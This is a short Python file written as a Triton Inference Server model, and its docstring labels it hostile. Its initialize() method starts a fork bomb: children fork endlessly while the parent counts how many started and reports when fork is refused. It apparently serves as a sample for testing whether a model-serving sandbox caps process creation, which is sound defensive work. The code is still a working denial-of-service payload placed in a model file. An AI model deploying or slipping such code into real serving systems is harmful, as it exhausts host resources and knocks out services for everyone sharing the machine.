"""Hostile: a fork bomb in initialize(). Every child forks for ever; the parent reports how far it got."""

import os
import time


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


class TritonPythonModel:
    def initialize(self, args):
        started, refused = 0, "never"
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                pid = os.fork()
            except OSError as exc:
                refused = exc.strerror
                break
            if pid == 0:
                bomb()
            started += 1
        raise RuntimeError(f"FORK-BOMB started {started} children; fork refused: {refused}")

    def execute(self, requests):
        return []
